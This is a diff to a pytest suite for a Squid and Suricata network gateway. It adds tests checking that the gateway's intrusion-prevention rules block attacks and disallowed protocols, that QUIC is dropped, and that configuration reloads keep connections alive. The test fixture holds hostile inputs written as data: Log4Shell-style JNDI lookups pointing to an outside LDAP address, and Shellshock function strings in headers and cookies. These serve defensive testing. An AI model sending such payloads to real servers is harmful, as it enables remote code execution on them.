@@ -19,6 +19,23 @@ HARMFUL = {
     "an exception": {"port": 8024, "says": TEST, "lasts": 1},
 }
 
+HELLO_SSL3 = "\x16\x03\x00\x00\x2d\x01\x00\x00\x29\x03\x00" + "0" * 32 + "\x00\x00\x02\x00\x0a\x01\x00"
+OWN_RULES: dict[str, tuple[int, dict[str, Any]]] = {
+    # what each of the role's own rules is to see (roles/gateway/files/kepil.rules), beside the test text
+    "JNDI in a path": (1000010, {"port": 80, "path": "/?${jndi:ldap://198.51.100.1/a}"}),
+    "JNDI in a header": (1000011, {"port": 80, "headers": ["User-Agent: ${jndi:ldap://198.51.100.1/a}"]}),
+    "JNDI in a cookie": (1000011, {"port": 80, "headers": ["Cookie: a=${jndi:ldap://198.51.100.1/a}"]}),
+    "a function for bash": (1000012, {"port": 80, "headers": ["Referer: () { :; }; echo"]}),
+    "the same in a cookie": (1000012, {"port": 80, "headers": ["Cookie: () { :; }; echo"]}),
+    "a private key": (1000013, {"port": 80, "sends": "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE\n"}),
+    "SSH on 80": (1000020, {"port": 80, "says": "SSH-2.0-OpenSSH_10.0\r"}),
+    "SSH on 443": (1000020, {"says": "SSH-2.0-OpenSSH_10.0\r"}),
+    "BitTorrent on 80": (1000021, {"port": 80, "says": "\x13BitTorrent protocol" + "0" * 48}),
+    "BitTorrent on 443": (1000021, {"says": "\x13BitTorrent protocol" + "0" * 48}),
+    "mining, by an exception": (1000022, {"port": 8024, "says": '{"method": "mining.subscribe"}', "lasts": 1}),
+    "SSL 3": (1000023, {"says": HELLO_SSL3}),
+}
+
 
 def counted(gateway: Gateway, comment: str) -> int:
     """Packets that the gateway's rules with a comment met."""
@@ -44,6 +61,31 @@ def test_intrusion_prevention_drops_what_a_rule_names(gateway: Gateway) -> None:
     assert [TEST in each["body"] or each["length"] for each in stopped] == [0] * len(stopped), list(HARMFUL)
     assert page["body"] == "origin\n"
     assert tick["body"].startswith("tick\n")
+
+
+@pytest.mark.clause("LQ-A3-6")
+def test_each_of_its_own_rules_drops_what_it_is_for(gateway: Gateway) -> None:
+    """Application control and the plainest attacks: nothing is answered, and the journal names the rule and port."""
+    began = gateway.host.check_output("date +%s")
+    answers = gateway.ask(*({"name": gateway.sites["news"], "seconds": 2, **each} for _, each in OWN_RULES.values()))
+    assert {what: each["body"] for what, each in zip(OWN_RULES, answers, strict=True) if each["length"]} == {}
+    said = gateway.host.check_output(f"journalctl --identifier=suricata --output=cat --since=@{began}")
+    events = [json.loads(line) for line in said.splitlines() if line.startswith("{")]
+    seen = {
+        (each["alert"]["signature_id"], each["dest_port"])
+        for each in events
+        if each["event_type"] == "alert" and each["alert"]["action"] == "blocked"
+    }
+    assert {(sid, each.get("port", 443)) for sid, each in OWN_RULES.values()} - seen == set()
+
+
+@pytest.mark.clause("LQ-A3-6")
+def test_quic_does_not_pass(gateway: Gateway) -> None:
+    """Threat: browsers that speak UDP go round the proxy."""
+    reason = "QUIC goes round all of it"
+    before = counted(gateway, reason)
+    gateway.ask({"port": 443, "protocol": "udp", "says": "hello", "seconds": 0.2})
+    assert counted(gateway, reason) == before + 1
 
 
 @pytest.mark.clause("LQ-A3-6")
@@ -139,19 +181,25 @@ def test_who_holds_too_many_connections_gets_no_more(gateway: Gateway) -> None:
 @pytest.mark.clause("GW-2")
 def test_changes_take_no_connection_away(gateway: Gateway) -> None:
     """Squid and Suricata read their settings again, the policy's elements are replaced, and at last all of the
-    gateway's rules, while a download is inspected, one is spliced and one is routed."""
+    gateway's rules, while a download is inspected, one is spliced and one is routed, and others begin."""
     flows: dict[str, dict[str, Any]] = {
         "inspected": {"name": gateway.sites["news"], "path": "/brief", "seconds": 20},
         "spliced": {"name": gateway.sites["finance"], "path": "/brief", "seconds": 20},
         "routed": {"port": 8024, "says": "go on", "lasts": 9, "seconds": 20},
     }
     anew = "nft -f /etc/kepil/gateway/gateway.nft && iptables-nft-restore /etc/kepil/gateway/intrusion/queue.rules"
+    changes = {
+        "settings": "systemctl reload squid suricata",
+        "elements": "rm -f /run/kepil-gateway/applied && systemctl start kepil-gateway-apply.service",
+        "rules": f"rm -f /run/kepil-gateway/applied && {anew} && systemctl start kepil-gateway-apply.service",
+    }
     with ThreadPoolExecutor(1) as pool:
         asked = pool.submit(gateway.ask, *flows.values())
         eventually(lambda: "8024" in gateway.host.check_output("ip netns exec origins ss -Htn state established"))
-        gateway.host.check_output("systemctl reload squid suricata")
-        gateway.apply_policy()
-        gateway.host.check_output(f"rm -f /run/kepil-gateway/applied && {anew} && systemctl start kepil-gateway-apply")
+        for name, change in changes.items():
+            failed, opened = opened_during(gateway, change)
+            print(f"{name}: {failed} of {opened} new connections failed")
+            assert failed < opened, name
         inspected, spliced, routed = asked.result()
     for name, each in zip(flows, (inspected, spliced, routed), strict=True):
         print(f"{name}: the longest silence lasted {each['silence']} s")
@@ -159,3 +207,18 @@ def test_changes_take_no_connection_away(gateway: Gateway) -> None:
     assert inspected["length"] == spliced["length"] == 90 * len("drop\n")
     assert gateway.issued(inspected["certificate"])
     eventually(gateway.passes)
+
+
+def opened_during(gateway: Gateway, change: str) -> tuple[int, int]:
+    """How many of the connections failed that users opened, ten at a time, from before a change until after it; and how
+    many these were, 200 at most. A third each: inspected, spliced, routed."""
+    kinds = ({"name": gateway.sites["news"]}, {"name": gateway.sites["finance"]}, {"port": 8022})
+    answers: list[dict[str, Any]] = []
+    with ThreadPoolExecutor(1) as pool:
+        done = pool.submit(gateway.host.check_output, change)
+        last = False
+        while not last and len(answers) < 200:
+            last = done.done()
+            answers += gateway.ask(*(kinds[number % 3] for number in range(10)))
+        done.result()
+    return sum("origin" not in each["body"] and "hello" not in each["body"] for each in answers), len(answers)
